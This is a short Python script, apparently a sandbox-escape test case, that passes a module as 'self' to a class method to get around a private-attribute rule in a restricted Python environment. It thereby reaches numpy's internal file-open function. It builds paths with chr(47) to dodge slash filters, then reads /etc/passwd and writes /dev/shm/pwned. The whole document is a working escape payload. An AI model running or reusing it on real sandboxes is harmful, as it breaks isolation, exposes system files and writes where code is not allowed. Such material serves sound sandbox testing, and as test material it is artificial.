# source: Python method binding - a function defined in a class is a plain function; calling Class.method(self=obj) runs it on any object (RestrictedPython-style "self is not self" confusion)
# family: object model / unbound method with keyword self= - self._private attribute rule applied to a module object
# goal: numpy.lib._datasource module and its _open (= io.open): read /etc/passwd, write /dev/shm/pwned
import numpy as np

class Cache:
    def __init__(self):
        self._datasource = None
        self._open = None

    def backend(self):
        return self._datasource

    def handle(self):
        return self._open

ds = Cache.backend(self=np.lib)
op = Cache.handle(self=ds)
print(ds, op)
root = chr(47)
print(op(root + "etc" + root + "passwd").read()[:200])
fh = op(root + "dev" + root + "shm" + root + "pwned", "w")
fh.write("written outside /tmp\n")
fh.close()
print(op(root + "dev" + root + "shm" + root + "pwned").read())
